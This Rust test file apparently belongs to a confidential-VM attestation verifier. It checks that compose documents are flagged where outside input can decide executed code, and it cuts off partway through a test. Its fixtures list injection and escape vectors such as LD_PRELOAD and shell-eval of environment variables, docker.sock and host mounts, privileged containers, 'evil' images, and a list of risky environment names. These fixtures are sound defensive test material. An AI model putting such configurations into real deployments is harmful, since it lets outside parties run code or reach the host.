//! Places of the measured compose document that something outside it can fill with code: T62 to T78. Each begins with a CVM
//! that runs exactly the expected document, so that nothing but `image-pins` and `launch-inputs` has anything to say.

use cvm_verify_core::policy::LockedCompose;
use cvm_verify_core::policy::LockedPlace;
use cvm_verify_core::reference::ReferenceValues;
use cvm_verify_core::report::{Assurance, CheckId, Status, Verdict};
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use simulator::app_compose::app_compose;
use simulator::{Cvm, World};

use crate::judge::{Judged, Trial};

pub(crate) const PINNED: &str =
    "nginx@sha256:5618a93a78c9ac9173e7ebf7c8af173bd675be6832a2f8c2a9a7149ac2678f54";

/// A CVM of a document with these fields beside the docker compose file.
pub(crate) fn running_with(yaml: &str, fields: &Value) -> Judged {
    let mut cvm = Cvm::healthy(&World::default());
    let mut document: Value = serde_json::from_str(&app_compose(yaml)).unwrap();
    document["pre_launch_script"] = json!("");
    for (name, value) in fields.as_object().unwrap() {
        document[name] = value.clone();
    }
    cvm.app_compose = document.to_string();
    Trial::of(cvm).judge()
}

/// The deployer may set X and Y.
pub(crate) fn running(yaml: &str) -> Judged {
    running_with(yaml, &json!({"allowed_envs": ["X", "Y"]}))
}

/// One service with a pinned image and these lines.
pub(crate) fn service(lines: &str) -> String {
    format!(
        "services:\n  web:\n    image: {PINNED}\n    {}\n",
        lines.replace('\n', "\n    ")
    )
}

/// `code` is not met, for this reason, and the place is named.
#[track_caller]
pub(crate) fn decides(judged: &Judged, reason: &str, place: &str) {
    judged.says(CheckId::ImagePins, Status::Warn, reason);
    judged.concludes(Verdict::Inconclusive);
    assert_eq!(judged.0.assurance, Assurance::Hardware, "{judged}");
    let detail = judged.detail(CheckId::ImagePins);
    assert!(
        detail.contains(&format!(" {place}: ")),
        "{place} is not in: {detail}"
    );
}

#[track_caller]
pub(crate) fn is_unmeasured(yaml: &str, place: &str) {
    decides(&running(yaml), "unmeasured-input", place);
}

#[track_caller]
fn is_unpinned(yaml: &str, place: &str) {
    decides(&running(yaml), "unpinned-image", place);
}

/// Nothing decides code.
#[track_caller]
pub(crate) fn is_fixed(yaml: &str) -> Judged {
    let judged = running(yaml);
    judged.passes().proves(CheckId::ImagePins);
    judged
}

/// `launch-inputs` names host access at a place.
#[track_caller]
fn reaches(judged: &Judged, place: &str) {
    judged.says(CheckId::LaunchInputs, Status::Warn, "host-access");
    let detail = judged.detail(CheckId::LaunchInputs);
    assert!(
        detail.contains(&format!("{place} (")),
        "{place} is not in: {detail}"
    );
}

#[test]
fn the_healthy_baseline_passes() {
    is_fixed(&service("restart: always")).proves(CheckId::LaunchInputs);
}

#[test]
fn t62_a_config_or_secret_from_outside_the_document_decides_code() {
    for (entry, key) in [
        ("{ environment: NOBODY_SETS_IT }", "environment"),
        ("{ environment: X }", "environment"),
        ("{ file: ./run.sh }", "file"),
        ("{ file: /dstack/.host-shared/.user-config }", "file"),
        ("{ external: true }", "external"),
        ("{ external: { name: other } }", "external"),
        ("{ content: 'a', template_driver: golang }", "template_driver"),
    ] {
        for section in ["configs", "secrets"] {
            if section == "secrets" && key == "template_driver" {
                continue;
            }
            let file = format!(
                "{}{section}:\n  a: {entry}\n",
                service(&format!("{section}: [a]"))
            );
            is_unmeasured(&file, &format!("{section}.a.{key}"));
        }
    }
    is_fixed(&format!(
        "{}configs:\n  a: {{ content: 'fixed' }}\n",
        service("configs:\n  - source: a\n    target: /a\n    mode: 0444")
    ));
}

#[test]
fn t63_a_file_of_environment_or_labels_decides_code() {
    for value in [
        ".env",
        "[.env]",
        "[{ path: .env, required: false }]",
        "/dstack/.host-shared/.user-config",
    ] {
        is_unmeasured(&service(&format!("env_file: {value}")), "services.web.env_file");
        is_unmeasured(
            &service(&format!("label_file: {value}")),
            "services.web.label_file",
        );
    }
    is_unmeasured(
        &service("credential_spec: { file: a.json }"),
        "services.web.credential_spec",
    );
    is_fixed(&service("env_file: []"));
}

#[test]
fn t64_a_variable_in_what_is_executed_decides_code() {
    for (lines, place) in [
        ("command: run ${X}", "services.web.command"),
        ("entrypoint: ['$X']", "services.web.entrypoint[0]"),
        (
            "healthcheck: { test: 'curl localhost:${X}' }",
            "services.web.healthcheck.test",
        ),
        (
            "healthcheck: { test: [CMD-SHELL, 'pg_isready -U ${X}'] }",
            "services.web.healthcheck.test[1]",
        ),
        (
            "healthcheck: { test: [CMD, '${X:-curl}', localhost] }",
            "services.web.healthcheck.test[1]",
        ),
        (
            "post_start: [{ command: 'run ${X}' }]",
            "services.web.post_start[0].command",
        ),
        (
            "pre_stop: [{ command: ['${Y:-${X}}', run] }]",
            "services.web.pre_stop[0].command[0]",
        ),
        (
            "pre_start: [{ command: '${X:?no}' }]",
            "services.web.pre_start[0].command",
        ),
    ] {
        is_unmeasured(&service(lines), place);
    }
    let config = |content: &str| {
        format!(
            "{}configs:\n  a:\n    content: \"{content}\"\n",
            service("configs: [a]")
        )
    };
    for content in [
        "${X}",
        "$X",
        "server ${X-a};",
        "${NOBODY:-$X}",
        "${X+a}",
        "${X/a}",
        "${",
    ] {
        is_unmeasured(&config(content), "configs.a.content");
    }
    let judged = is_fixed(&config("proxy_set_header Host $host; ${NOBODY:-a}"));
    let detail = judged.detail(CheckId::ImagePins);
    assert!(
        detail.contains("nothing can set NOBODY, host at configs.a.content"),
        "{detail}"
    );
    // The fix is named.
    let judged = running(&service("healthcheck: { test: 'pg_isready -U ${X}' }"));
    let detail = judged.detail(CheckId::ImagePins);
    assert!(
        detail.contains("X is in `allowed_envs`") && detail.contains("`$$X`"),
        "{detail}"
    );
}

#[test]
fn t64_an_item_of_a_list_decides_code_where_it_is_executed() {
    for (lines, place) in [
        // The program.
        ("command: ['${X}', --port, '80']", "command[0]"),
        ("entrypoint: ['/opt/${X}/run']", "entrypoint[0]"),
        ("entrypoint: []\ncommand: ['${X}']", "command[0]"),
        ("entrypoint: [env]\ncommand: ['${X}', app]", "command[0]"),
        ("command: [tini, --, '${X}']", "command[2]"),
        ("command: [timeout, '5', '${X}']", "command[2]"),
        // A script, or an option of an interpreter.
        ("command: [sh, -c, '${X}']", "command[2]"),
        ("command: [sh, -c, 'exec app --port ${X}']", "command[2]"),
        ("entrypoint: [sh]\ncommand: [-c, 'app ${X}']", "command[1]"),
        ("entrypoint: sh -c\ncommand: ['app ${X}']", "command[0]"),
        (
            "entrypoint: [/bin/sh, -c]\ncommand: ['exec \"$$0\"', '${X}']",
            "command[1]",
        ),
        ("command: [sh, -c, 'eval \"$$1\"', --, '${X}']", "command[4]"),
        ("command: [python, '${X}']", "command[1]"),
        ("command: [python, -m, '${X}']", "command[2]"),
        ("command: [node, '--import=${X}', server.js]", "command[1]"),
        (
            "entrypoint: [node]\ncommand: ['--require', '${X}', server.js]",
            "command[1]",
        ),
        ("command: [java, '-javaagent:${X}', -jar, app.jar]", "command[1]"),
        (
            "command: [java, '-Dloader.path=${X}', -jar, app.jar]",
            "command[1]",
        ),
        (
            "healthcheck: { test: [CMD, sh, -c, 'check ${X}'] }",
            "healthcheck.test[3]",
        ),
        (
            "post_start: [{ command: [bash, -c, 'a ${X}'] }]",
            "post_start[0].command[2]",
        ),
        // An environment that loads code.
        ("command: [env, 'LD_PRELOAD=${X}', app]", "command[1]"),
        ("command: [env, '${X}', app]", "command[1]"),
        // The image's own entrypoint may be an interpreter, or a runner.
        ("command: ['--import=${X}']", "command[0]"),
        ("command: [--require, '${X}', server.js]", "command[1]"),
        ("command: [-c, 'max_connections=${X}']", "command[1]"),
        ("command: [run, '${X}']", "command[1]"),
        // What the program starts or loads.
        ("command: [make, all, '${X}']", "command[2]"),
        ("command: [make, 'SHELL=${X}', all]", "command[1]"),
        ("command: [npm, run, '${X}']", "command[2]"),
        ("command: [npx, '${X}']", "command[1]"),
        ("command: [app, --exec, '${X}']", "command[2]"),
        ("command: [app, '--post-hook=${X}']", "command[1]"),
        (
            "command: [vllm, serve, '${X}', --trust-remote-code]",
            "command[2]",
        ),
        (
            "entrypoint: [vllm, serve, '${X}']\ncommand: [--trust-remote-code]",
            "entrypoint[2]",
        ),
        ("command: [postgres, -c, 'archive_command=${X}']", "command[2]"),
        (
            "command: [postgres, -c, 'shared_preload_libraries=${X}']",
            "command[2]",
        ),
        ("command: [postgres, -c, '${X}']", "command[2]"),
        ("command: [redis-server, '${X}']", "command[1]"),
        ("command: [redis-server, --loadmodule, '${X}']", "command[2]"),
        ("command: [mysqld, '--init-file=${X}']", "command[1]"),
        ("command: [gunicorn, '${X}']", "command[1]"),
        ("command: [streamlit, run, '${X}']", "command[2]"),
        // A shell may read what stands beside it.
        ("command: [app, '${X} $$NAME']", "command[1]"),
        // A text is split after it is filled.
        ("command: app --port ${X}", "command"),
        ("entrypoint: [app]\ncommand: --port ${X}", "command"),
    ] {
        is_unmeasured(&service(lines), &format!("services.web.{place}"));
    }
    for (lines, place) in [
        ("command: [run, --port, '${X}']", "command[2]"),
        ("command: [redis-server, --requirepass, '${X:-a}']", "command[2]"),
        ("command: [postgres, -c, 'max_connections=${X}']", "command[2]"),
        ("command: [op-node, '--l1=${X}']", "command[1]"),
        ("entrypoint: [traefik]\ncommand: ['--email=${X}']", "command[0]"),
        ("command: [python, app.py, --key, '${X}']", "command[3]"),
        (
            "command: [java, '-Dserver.port=${X}', -jar, app.jar]",
            "command[1]",
        ),
        (
            "healthcheck: { test: [CMD, redis-cli, -a, '${X}', ping] }",
            "healthcheck.test[3]",
        ),
        (
            "pre_stop: [{ command: [app, --token, '${Y:-${X}}'] }]",
            "pre_stop[0].command[2]",
        ),
    ] {
        let judged = is_fixed(&service(lines));
        let detail = judged.detail(CheckId::LaunchInputs);
        let named = format!("nothing measures or authenticates them: services.web.{place}.");
        assert!(detail.contains(&named), "{lines}: {detail}");
    }
    // nerdctl hands a health check to a shell as one text.
    let check = service("healthcheck: { test: [CMD, redis-cli, -a, '${X}', ping] }");
    decides(
        &running_with(
            &check,
            &json!({ "allowed_envs": ["X"], "runner": "nerdctl-compose" }),
        ),
        "unmeasured-input",
        "services.web.healthcheck.test[3]",
    );
}

#[test]
fn t65_a_variable_wherever_the_table_does_not_allow_one_decides_code() {
    for (key, place) in [
        ("user: '${X}'", "user"),
        ("working_dir: /${X}", "working_dir"),
        ("runtime: '${X}'", "runtime"),
        ("platform: '${X}'", "platform"),
        ("extra_hosts: ['a:${X}']", "extra_hosts[0]"),
        ("extra_hosts: { a: '${X}' }", "extra_hosts.a"),
        ("dns: '${X}'", "dns"),
        ("profiles: ['${X}']", "profiles[0]"),
        ("networks: { a: { aliases: ['${X}'] } }", "networks.a.aliases[0]"),
        ("group_add: ['${X}']", "group_add[0]"),
        ("annotations: { a: '${X}' }", "annotations.a"),
        ("sysctls: ['a=${X}']", "sysctls[0]"),
        ("tmpfs: '${X}'", "tmpfs"),
        ("volumes: ['${X}:/app']", "volumes[0]"),
        (
            "volumes: [{ type: volume, source: a, target: '/${X}' }]",
            "volumes[0].target",
        ),
        (
            "volumes: [{ type: '${X}', source: a, target: /a }]",
            "volumes[0].type",
        ),
        ("configs: [{ source: a, target: '${X}' }]", "configs[0].target"),
        ("secrets: ['${X}']", "secrets[0]"),
        ("privileged: '${X:-false}'", "privileged"),
        ("cap_add: ['${X}']", "cap_add[0]"),
        ("network_mode: '${X}'", "network_mode"),
        ("pid: '${X}'", "pid"),
        ("security_opt: ['${X}']", "security_opt[0]"),
        ("devices: ['${X}:/a']", "devices[0]"),
        ("init: '${X}'", "init"),
        ("links: ['${X}']", "links[0]"),
        ("storage_opt: { size: '${X}' }", "storage_opt.size"),
        ("environment: ['${X}=1']", "environment[0]"),
    ] {
        is_unmeasured(&service(key), &format!("services.web.{place}"));
    }
    for (lines, place) in [
        ("name: '${X}'", "name"),
        ("networks: { a: { driver: '${X}' } }", "networks.a.driver"),
        (
            "networks: { a: { driver_opts: { a: '${X}' } } }",
            "networks.a.driver_opts.a",
        ),
        ("networks: { a: { name: '${X}' } }", "networks.a.name"),
        ("volumes: { a: { name: '${X}' } }", "volumes.a.name"),
        ("volumes: { a: { driver: '${X}' } }", "volumes.a.driver"),
    ] {
        is_unmeasured(&format!("{}{lines}\n", service("tty: true")), place);
    }
}

#[test]
fn t65_a_variable_where_no_value_decides_code_is_named_as_set_from_outside() {
    for (key, place) in [
        ("ports: ['${X}:80']", "ports[0]"),
        ("ports: [{ target: 80, published: '${X}' }]", "ports[0].published"),
        ("mem_limit: '${X}'", "mem_limit"),
        ("restart: '${X}'", "restart"),
        (
            "logging: { driver: json-file, options: { max-size: '${X}' } }",
            "logging.options.max-size",
        ),
        ("container_name: 'a-${X}'", "container_name"),
        ("labels: { a: '${X}' }", "labels.a"),
        ("labels: ['a=${X}']", "labels[0]"),
        ("deploy: { replicas: '${X}' }", "deploy.replicas"),
        (
            "deploy: { resources: { limits: { memory: '${X}' } } }",
            "deploy.resources.limits.memory",
        ),
        ("gpus: [{ driver: nvidia, count: '${X}' }]", "gpus[0].count"),
        (
            "healthcheck: { test: 'true', interval: '${X}' }",
            "healthcheck.interval",
        ),
        ("environment: { KEY: '${X}' }", "environment.KEY"),
        ("environment: ['KEY=${X:-a}']", "environment[0]"),
        ("environment: [X]", "environment[0]"),
        ("environment: { X: }", "environment.X"),
    ] {
        let judged = is_fixed(&service(key));
        judged.proves(CheckId::LaunchInputs);
        let detail = judged.detail(CheckId::LaunchInputs);
        let named = format!(
            "1 value is set from outside, by the deployer or the host, and nothing measures or authenticates them: services.web.{place}."
        );
        assert!(detail.contains(&named), "{place}: {detail}");
    }
    let judged = is_fixed(&service("environment: [NOBODY, 'A=${NOBODY}', B=1]"));
    assert!(!judged.detail(CheckId::LaunchInputs).contains("set from outside"));
}

#[test]
fn t66_what_a_shell_executes_of_the_containers_environment_decides_code() {
    let with = |lines: &str| service(&format!("environment: {{ NAME: '${{X}}', FIXED: 'a' }}\n{lines}"));
    for (lines, place) in [
        ("command: [sh, -c, '$$NAME']", "command[2]"),
        ("command: sh -c '$$NAME'", "command"),
        ("command: [sh, -c, 'eval \"$$NAME\"']", "command[2]"),
        ("entrypoint: [/bin/sh, -ec, 'exec $${NAME}']", "entrypoint[2]"),
        ("entrypoint: ['$$NAME']", "entrypoint[0]"),
        ("entrypoint: [sh]\ncommand: [-c, '$$NAME']", "command[1]"),
        ("entrypoint: sh -c\ncommand: ['exec $$NAME']", "command[0]"),
        ("entrypoint: [python]\ncommand: ['$$NAME']", "command[0]"),
        ("command: [-ec, '$$NAME']", "command[1]"),
        ("healthcheck: { test: '$$NAME' }", "healthcheck.test"),
        (
            "healthcheck: { test: [CMD-SHELL, 'sh -c \"$$NAME\"'] }",
            "healthcheck.test[1]",
        ),
        (
            "healthcheck: { test: [CMD, sh, -c, 'true; $$NAME'] }",
            "healthcheck.test[3]",
        ),
        (
            "post_start: [{ command: [sh, -c, 'echo $$NAME | sh'] }]",
            "post_start[0].command[2]",
        ),
        (
            "post_start: [{ command: [sh, -c, '$$OWN'], environment: ['OWN=${X}'] }]",
            "post_start[0].command[2]",
        ),
        (
            "pre_start: [{ command: [sh, -c, '$$NAME'] }]",
            "pre_start[0].command[2]",
        ),
        ("command: [python, -c, '$$NAME']", "command[2]"),
        // A variable of the script's own holds it.
        ("command: [sh, -c, 'c=$$NAME; exec $$c']", "command[2]"),
        ("command: sh -c 'c=$$NAME && $$c'", "command"),
        ("command: [sh, -c, 'for c in $$NAME; do $$c; done']", "command[2]"),
        (
            "entrypoint: [bash, -c, 'read c <<< \"$$NAME\"; eval \"$$c\"']",
            "entrypoint[2]",
        ),
        (
            "healthcheck: { test: [CMD, sh, -c, 'c=$${NAME:-true}; $$c'] }",
            "healthcheck.test[3]",
        ),
        ("command: [bash, -c, 'bash < <(echo $$NAME)']", "command[2]"),
        ("command: [bash, -c, 'echo $${!NAME}']", "command[2]"),
        ("command: [bash, -c, 'echo $$((NAME))']", "command[2]"),
        ("command: [sh, -c, 'printenv NAME | sh']", "command[2]"),
    ] {
        is_unmeasured(&with(lines), &format!("services.web.{place}"));
    }
    let config = |content: &str| {
        format!(
            "{}configs:\n  a:\n    content: \"{content}\"\n",
            with("configs: [a]")
        )
    };
    is_unmeasured(&config("#!/bin/sh\\nexec $$NAME\\n"), "configs.a.content");
    is_fixed(&config("#!/bin/sh\\nexec app --port $$NAME\\n"));
    for lines in [
        "command: [sh, -c, '$$FIXED']",
        "command: [sh, -c, '$$OF_THE_IMAGE']",
    ] {
        is_fixed(&with(lines));
    }
    // As an argument it is named with its path.
    let judged = is_fixed(&with(
        "healthcheck: { test: [CMD-SHELL, 'pg_isready -U $$NAME'] }",
    ));
    let detail = judged.detail(CheckId::LaunchInputs);
    assert!(detail.contains("services.web.healthcheck.test[1]"), "{detail}");
}

#[test]
fn t67_a_risky_name_in_a_container_decides_code() {
    for (entry, place) in [
        ("{ LD_PRELOAD: '${X}' }", "environment.LD_PRELOAD"),
        ("['NODE_OPTIONS=${X}']", "environment[0]"),
        ("{ https_proxy: 'http://${X}' }", "environment.https_proxy"),
        ("{ BASH_ENV: '${NOBODY:-${X}}' }", "environment.BASH_ENV"),
        ("['${NOBODY:-LD_PRELOAD}=${X}']", "environment[0]"),
    ] {
        is_unmeasured(
            &service(&format!("environment: {entry}")),
            &format!("services.web.{place}"),
        );
    }
    let passed = running_with(
        &service("environment: [PYTHONPATH]"),
        &json!({"allowed_envs": ["PYTHONPATH"]}),
    );
    decides(&passed, "unmeasured-input", "services.web.environment[0]");
    is_unmeasured(
        &service("post_start: [{ command: 'true', environment: { PATH: '${X}' } }]"),
        "services.web.post_start[0].environment.PATH",
    );
    is_fixed(&service(
        "environment: { LD_PRELOAD: /lib/a.so, NODE_OPTIONS: '${NOBODY}' }",
    ));
}

#[test]
fn t68_a_name_that_the_guest_itself_reads_decides_code() {
    for name in [
        "APP_COMPOSE_FILE",
        "COMPOSE_FILE",
        "COMPOSE_PROFILES",
        "DOCKER_HOST",
        "DOCKER_CONFIG",
        "LD_PRELOAD",
        "NERDCTL_NAMESPACE",
        "SHELLOPTS",
        "BASHOPTS",
        "PS4",
        "BASH_ENV",
        "PATH",
        "HOME",
        "CURL_HOME",
        "GODEBUG",
        "HTTPS_PROXY",
        "XDG_CONFIG_HOME",
        "GIT_SSH_COMMAND",
        "DSTACK_ROOT_PASSWORD",
        "AWS_PROFILE",
        "AWS_CONFIG_FILE",
        "REQUESTS_CA_BUNDLE",
        " LD_PRELOAD ",
    ] {
        let judged = running_with(&service("tty: true"), &json!({ "allowed_envs": [name] }));
        decides(&judged, "unmeasured-input", &format!("allowed_envs.{name}"));
        judged.says(CheckId::LaunchInputs, Status::Warn, "risky-variables");
    }
    for odd in [json!("LD_PRELOAD"), json!([["LD_PRELOAD"]]), json!({"a": "b"})] {
        running_with(&service("tty: true"), &json!({ "allowed_envs": odd }))
            .says(CheckId::ImagePins, Status::Warn, "unmeasured-input")
            .concludes(Verdict::Inconclusive);
    }
    for name in [
        "NODE_OPTIONS",
        "PYTHONPATH",
        "_JAVA_OPTIONS",
        "GUNICORN_CMD_ARGS",
        "proxy",
    ] {
        // The guest has no program that reads it; a script that is not known may hand it to one.
        running_with(&service("tty: true"), &json!({ "allowed_envs": [name] }))
            .passes()
            .proves(CheckId::ImagePins);
        let scripted = json!({ "allowed_envs": [name], "init_script": "true" });
        let judged = running_with(&service("tty: true"), &scripted);
        decides(&judged, "unmeasured-input", &format!("allowed_envs.{name}"));
        // A container has programs that load code by it.
        let filled = running_with(
            &service(&format!("environment: [{name}]")),
            &json!({ "allowed_envs": [name] }),
        );
        decides(&filled, "unmeasured-input", "services.web.environment[0]");
    }
    for name in [
        "DOCKER_TAG",
        "DOCKER_USERNAME",
        "API_KEY",
        "ENV",
        "N8N_TRUST_PROXY",
        "PYTHONUNBUFFERED",
        "TRUST_PROXY",
        "OPENAI_PROXY",
        "UV_THREADPOOL_SIZE",
        "LD_SDK_KEY",
    ] {
        running_with(
            &service(&format!("environment: [{name}]")),
            &json!({ "allowed_envs": [name] }),
        )
        .passes()
        .proves(CheckId::ImagePins);
        running_with(&service("tty: true"), &json!({ "allowed_envs": [name] }))
            .passes()
            .proves(CheckId::ImagePins);
    }
}

#[test]
fn t69_a_mount_of_what_the_host_hands_in_decides_code_and_is_host_access() {
    for source in [
        "/",
        "/dstack",
        "/dstack/",
        "/tapp",
        ".",
        "./.host-shared",
        "/dstack/.host-shared",
        "/dstack/.host-shared/.user-config",
        "/dstack/../dstack",
        "/tapp/.host-shared",
        "../dstack/.host-shared",
        "/var/volatile/dstack/.host-shared",
        "/var",
        "/proc/1/root/dstack",
        "/sys/firmware/qemu_fw_cfg",
        "/sys",
        "/dev",
        "/dev/vdb",
        "/dev/disk/by-id",
        "/dev/block/254:16",
        "/dstack/user_config",
        "~/..",
        "~/../dstack",
    ] {
        let judged = running(&service(&format!("volumes: ['{source}:/x:ro']")));
        decides(&judged, "unmeasured-input", "services.web.volumes[0]");
        reaches(&judged, "services.web.volumes[0]");
        let judged = running(&service(&format!(
            "volumes: [{{ type: bind, source: '{source}', target: /x }}]"
        )));
        decides(&judged, "unmeasured-input", "services.web.volumes[0].source");
        reaches(&judged, "services.web.volumes[0].source");
    }
    for device in ["/dev/vda", "/dev/block/254:16", "/dev/mmcblk0"] {
        let judged = running(&service(&format!("devices: ['{device}:/dev/vda']")));
        decides(&judged, "unmeasured-input", "services.web.devices[0]");
        reaches(&judged, "services.web.devices[0]");
    }
    for source in ["/data", "./data", "/etc/ssl/certs"] {
        reaches(
            &is_fixed(&service(&format!("volumes: ['{source}:/x']"))),
            "services.web.volumes[0]",
        );
    }
    let judged = is_fixed(&service("volumes: [{ type: bind, source: data, target: /app }]"));
    reaches(&judged, "services.web.volumes[0].source");
    for source in ["/var/run/dstack.sock", "/run/dstack.sock", "/var/run/tappd.sock"] {
        is_fixed(&service(&format!("volumes: ['{source}:{source}']"))).proves(CheckId::LaunchInputs);
    }
}

#[test]
fn t70_a_volume_that_is_filled_elsewhere_decides_code() {
    for (volume, place) in [
        (
            "{ driver_opts: { type: nfs, o: 'addr=10.0.2.2', device: ':/x' } }",
            "driver_opts",
        ),
        (
            "{ driver_opts: { type: cifs, device: //10.0.2.2/x } }",
            "driver_opts",
        ),
        (
            "{ driver_opts: { type: none, o: bind, device: /data } }",
            "driver_opts",
        ),
        ("{ driver_opts: { type: ext4, device: /dev/vdb } }", "driver_opts"),
        ("{ driver: rclone }", "driver"),
        ("{ external: true }", "external"),
    ] {
        let file = format!("{}volumes:\n  a: {volume}\n", service("volumes: ['a:/a']"));
        is_unmeasured(&file, &format!("volumes.a.{place}"));
    }
    is_unmeasured(
        &service("volumes_from: ['container:other']"),
        "services.web.volumes_from[0]",
    );
    for volume in [
        "{}",
        "{ driver: local }",
        "{ name: a }",
        "{ driver_opts: { type: tmpfs, device: tmpfs } }",
        "",
    ] {
        is_fixed(&format!(
            "{}volumes:\n  a: {volume}\n",
            service("volumes: ['a:/a', /b]")
        ))
        .proves(CheckId::LaunchInputs);
    }
    is_fixed(&service("volumes_from: ['other:ro']"));
}

#[test]
fn t71_another_image_than_the_pinned_one_is_named() {
    for (lines, place) in [
        (
            "pre_start: [{ image: 'evil:latest', command: /init }]",
            "services.web.pre_start[0].image",
        ),
        (
            "volumes: [{ type: image, source: 'evil:latest', target: /app }]",
            "services.web.volumes[0].source",
        ),
        ("pull_policy: build", "services.web.pull_policy"),
        ("build: .", "services.web.build"),
        ("provider: { type: evil }", "services.web.provider"),
        ("extends: other", "services.web.extends"),
    ] {
        is_unpinned(&service(lines), place);
    }
    for (lines, place) in [
        (
            "post_start: [{ image: 'evil:latest', command: /init }]",
            "services.web.post_start[0].image",
        ),
        ("models: [llm]", "services.web.models"),
        (
            "develop: { watch: [{ path: ., action: sync, target: / }] }",
            "services.web.develop",
        ),
        (
            "volumes: [{ type: npipe, source: a, target: /a }]",
            "services.web.volumes[0].type",
        ),
        (
            "volumes: [{ type: cluster, source: a, target: /a }]",
            "services.web.volumes[0].type",
        ),
    ] {
        is_unmeasured(&service(lines), place);
    }
    is_unpinned(
        &format!(
            "{}jobs:\n  a: {{ image: evil, triggers: {{ manual: true }} }}\n",
            service("tty: true")
        ),
        "jobs.a.image",
    );
    is_unmeasured(
        &format!("{}models:\n  llm: {{ model: ai/llm }}\n", service("tty: true")),
        "models",
    );
    is_fixed(&service(&format!(
        "pull_policy: always\npre_start: [{{ image: '{PINNED}', command: /init }}]\nvolumes: [{{ type: image, source: '{PINNED}', target: /a }}]"
    )));
}

#[test]
fn t72_a_key_that_the_table_does_not_have_decides_code() {
    is_unmeasured(&service("tomorrow: 1"), "services.web.tomorrow");
    is_unmeasured(
        &service("healthcheck: { test: 'true', tomorrow: 1 }"),
        "services.web.healthcheck.tomorrow",
    );
    is_unmeasured(
        &service("deploy: { tomorrow: 1 }"),
        "services.web.deploy.tomorrow",
    );
    is_unmeasured(
        &service("volumes: [{ type: volume, source: a, target: /a, src: /etc }]"),
        "services.web.volumes[0].src",
    );
    is_unmeasured(
        &service("ports: [{ target: 80, tomorrow: 1 }]"),
        "services.web.ports[0].tomorrow",
    );
    is_unmeasured(&service("command: { a: b }"), "services.web.command");
    is_unmeasured(
        &service("environment: { A: { b: c } }"),
        "services.web.environment.A",
    );
    is_unmeasured(&format!("{}tomorrow: 1\n", service("tty: true")), "tomorrow");
    is_unmeasured(
        &format!("{}configs:\n  a: {{ tomorrow: b }}\n", service("tty: true")),
        "configs.a.tomorrow",
    );
    is_fixed(&format!(
        "x-anything: '${{X}}'\n{}",
        service("x-more: { image: a }\nhealthcheck: { test: 'true', x-note: '${X}' }")
    ));
    // The name of a service is no extension.
    is_unpinned(
        &format!("{}  x-evil: {{ image: evil }}\n", service("tty: true")),
        "services.x-evil.image",
    );
}

#[test]
fn t73_what_a_script_can_set_can_be_set_from_outside() {
    let script = |version: &str| {
        let scripts = ReferenceValues::built_in().scripts();
        let row = scripts
            .iter()
            .find(|script| script.version.as_str() == version)
            .unwrap();
        row.sha256.to_string()
    };
    assert_eq!(script("0.0.19").len(), 64);
    let unknown = running_with(
        &service("command: '${NOBODY}'"),
        &json!({"pre_launch_script": "export NOBODY=x"}),
    );
    decides(&unknown, "unmeasured-input", "services.web.command");
    assert!(
        unknown
            .detail(CheckId::ImagePins)
            .contains("a script that is in no table")
    );
    let init = running_with(&service("command: '${NOBODY}'"), &json!({"init_script": "true"}));
    decides(&init, "unmeasured-input", "services.web.command");
    // The guest's own start script hands on what the host says.
    is_unmeasured(&service("command: '${PCCS_URL}'"), "services.web.command");
    is_unmeasured(&service("command: '${HOME}'"), "services.web.command");
    is_fixed(&service("command: 'a ${NOBODY:-b}'"));
    for odd in [json!("X"), json!([1])] {
        decides(
            &running_with(&service("command: '${NOBODY}'"), &json!({ "allowed_envs": odd })),
            "unmeasured-input",
            "services.web.command",
        );
    }
}

#[test]
fn t74_a_verified_volume_without_its_root_decides_code() {
    let root = "ab".repeat(32);
    let volumes =
        |root: Value| json!({"verity_volumes": [{"source": "a", "verity_root": root, "target": "/a"}]});
    for odd in [
        json!(null),
        json!(""),
        json!("ab"),
        json!(root.to_uppercase()),
        json!([root]),
        json!(format!("0x{root}")),
    ] {
        let judged = running_with(&service("tty: true"), &volumes(odd));
        decides(&judged, "unmeasured-input", "verity_volumes[0].verity_root");
    }
    decides(
        &running_with(&service("tty: true"), &json!({"verity_volumes": {"source": "a"}})),
        "unmeasured-input",
        "verity_volumes",
    );
    running_with(&service("tty: true"), &volumes(json!(root)))
        .passes()
        .proves(CheckId::ImagePins);
}

#[test]
fn t75_a_weak_gpu_policy_is_named() {
    for (policy, named) in [
        (json!({"attest_gpu": false}), "`attest_gpu` is false"),
        (json!({"allow_devtools": true}), "`allow_devtools` is true"),
        (json!({"allow_debug": true}), "`allow_debug` is true"),
        (
            json!({"allow_insecure_boot": true}),
            "`allow_insecure_boot` is true",
        ),
        (json!({"allow_debug": "no"}), "`allow_debug` is set"),
        (json!({"rego": "package policy"}), "`rego` is set"),
        (json!({"tomorrow": 1}), "`tomorrow` is set"),
    ] {
        let judged = running_with(
            &service("gpus: all"),
            &json!({"requirements": {"gpu_policy": policy}}),
        );
        judged
            .passes()
            .says(CheckId::LaunchInputs, Status::Warn, "weak-gpu-policy");
        let detail = judged.detail(CheckId::LaunchInputs);
        assert!(detail.contains(named), "{named}: {detail}");
    }
    for policy in [
        json!({}),
        json!(null),
        json!({"attest_gpu": true, "allow_devtools": false, "allow_debug": false, "allow_insecure_boot": false}),
    ] {
        running_with(
            &service("gpus: all"),
            &json!({"requirements": {"gpu_policy": policy}}),
        )
        .passes()
        .proves(CheckId::LaunchInputs);
    }
}

#[test]
fn t76_every_way_beyond_the_container_is_named_beside_an_image_that_is_not_pinned() {
    for (lines, place) in [
        ("privileged: true", "privileged"),
        ("cap_add: [SYS_ADMIN]", "cap_add"),
        ("devices: ['/dev/tdx_guest:/dev/tdx_guest']", "devices[0]"),
        (
            "devices: [{ source: /dev/kvm, target: /dev/kvm }]",
            "devices[0].source",
        ),
        ("device_cgroup_rules: ['a *:* rwm']", "device_cgroup_rules"),
        ("security_opt: ['seccomp=unconfined']", "security_opt[0]"),
        ("security_opt: ['no-new-privileges:false']", "security_opt[0]"),
        ("pid: host", "pid"),
        ("pid: 'container:other'", "pid"),
        ("ipc: host", "ipc"),
        ("uts: host", "uts"),
        ("cgroup: host", "cgroup"),
        ("cgroup_parent: /", "cgroup_parent"),
        ("userns_mode: host", "userns_mode"),
        ("network_mode: host", "network_mode"),
        ("network_mode: 'container:other'", "network_mode"),
        ("volumes: ['/var/run/docker.sock:/s']", "volumes[0]"),
        ("volumes: ['../run/docker.sock:/s']", "volumes[0]"),
        ("volumes: ['/run:/s']", "volumes[0]"),
        ("volumes: ['/etc:/s']", "volumes[0]"),
